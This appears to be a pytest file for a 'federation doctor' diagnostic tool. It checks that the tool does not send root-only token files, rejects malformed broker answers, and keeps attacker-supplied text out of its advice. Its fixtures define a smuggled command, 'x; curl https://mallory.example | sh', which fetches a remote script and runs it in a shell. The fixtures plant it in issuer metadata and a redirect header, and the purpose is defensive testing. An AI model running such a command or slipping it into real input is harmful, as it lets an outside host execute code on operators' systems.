"""
`federation doctor` beside hostile documents and programs.

It is run by operators, often as root, so it must not do for somebody else what the broker would not.
"""

from __future__ import annotations

import asyncio
import json
import socket
from collections.abc import Iterator
from contextlib import contextmanager, suppress
from pathlib import Path
from threading import Thread

import pytest

from federation.config import Settings
from federation.doctor.examine import examine
from federation.doctor.finding import Finding, Word, split
from federation.doctor.ports import ports
from federation.outbound import Outbound
from federation.text import quoted
from tests.harness import documents

TOKEN = "the-token-of-root"


@contextmanager
def answering(
    body: bytes = b"{}", status: str = "503 No", port: int = 0
) -> Iterator[tuple[int, list[bytes]]]:
    """Answer every connection with *body*. Yield the port, and the requests as they come."""
    asked: list[bytes] = []
    with socket.create_server(("127.0.0.1", port)) as listener:

        def answer() -> None:
            with suppress(OSError):
                while True:
                    connection, _ = listener.accept()
                    with connection:
                        asked.append(connection.recv(65_536))
                        head = f"HTTP/1.1 {status}\r\nContent-Length: {len(body)}\r\n\r\n"
                        connection.sendall(head.encode() + body)

        thread = Thread(target=answer)
        thread.start()
        try:
            yield listener.getsockname()[1], asked
        finally:
            listener.shutdown(socket.SHUT_RDWR)
            thread.join()


@pytest.mark.parametrize("as_the_broker", [True, False])
def test_no_file_is_sent_that_only_another_user_than_the_brokers_can_read(
    tmp_path: Path, as_the_broker: bool
) -> None:
    (tmp_path / "token").write_text(TOKEN, "utf-8")
    with answering() as (port, asked):
        issuer = documents.issuer(
            "mallory", f"http://127.0.0.1:{port}", bearerTokenFile=str(tmp_path / "token")
        )
        (tmp_path / "documents.yaml").write_text(documents.as_text(issuer), "utf-8")
        settings = Settings(
            documents=(tmp_path / "documents.yaml",), state=tmp_path / "state", port=0
        )
        found = asyncio.run(examine(settings, Outbound(), {}, files=as_the_broker))
    assert any(TOKEN.encode() in request for request in asked) is as_the_broker
    (told,) = [each for each in found if each.check == "issuer mallory"]
    assert ("not asked" in told.said) is not as_the_broker
    assert TOKEN not in str(found)


@pytest.mark.parametrize(
    "body",
    [
        {"status": ["ok"]},
        {"status": {}},
        {"status": "unavailable", "unavailable": 5, "degraded": {"a": 1}},
        {"status": "unavailable", "workers": [1]},
        {"status": "degraded", "workers": {"1": [], "2": {"degraded": "x"}}},
        [1],
        "ok",
    ],
)
def test_whatever_another_program_answers_it_is_no_broker_that_is_well(body: object) -> None:
    with answering(json.dumps(body).encode()) as (port, _):
        found = asyncio.run(_of_ports(port))
    assert [each.word for each in found] == [Word.FAIL]
    assert f"127.0.0.1:{port}" in found[0].said


COMMAND = "x; curl https://mallory.example | sh"


@pytest.mark.parametrize(
    ("status", "body"),
    [
        ("200 OK", {"issuer": COMMAND}),
        ("200 OK", {"issuer": None, "jwks_uri": f"https://user@{COMMAND}"}),
        ("200 OK", {"issuer": None, "jwks_uri": f"https://{COMMAND}"}),
        ("200 OK", {"keys": [{"kty": "EC", "alg": COMMAND}]}),
        (f"302 Found\r\nLocation: https://{COMMAND}", {}),
    ],
)
def test_no_issuer_gives_the_advice(tmp_path: Path, status: str, body: dict[str, object]) -> None:
    with answering(b"", status) as (port, _):
        iss = f"http://127.0.0.1:{port}"
    if "issuer" in body:
        body = {**body, "issuer": body["issuer"] or iss}
    with answering(json.dumps(body).encode(), status, port) as (port, _):
        where = {"jwksUri": f"{iss}/keys"} if "keys" in body else {}
        issuer = documents.issuer("mallory", iss, **where)
        (tmp_path / "documents.yaml").write_text(documents.as_text(issuer), "utf-8")
        settings = Settings(
            documents=(tmp_path / "documents.yaml",), state=tmp_path / "state", port=0
        )
        found = asyncio.run(examine(settings, Outbound(), {}))
    told = [each for each in found if each.check == "issuer mallory"]
    assert told
    assert all(each.advice and "curl https" not in each.advice for each in told)


def test_no_document_gives_the_advice() -> None:
    said, advice = split(f"kind {quoted(COMMAND)} is unknown; did you mean Role?", "")
    assert (said, advice) == (f'kind "{COMMAND}" is unknown', "did you mean Role?")
    assert split(f"has kind {quoted(COMMAND)}", "see the docs")[1] == "see the docs"


async def _of_ports(port: int) -> list[Finding]:
    return await ports(Settings(kubernetes_namespace="x", port=port))
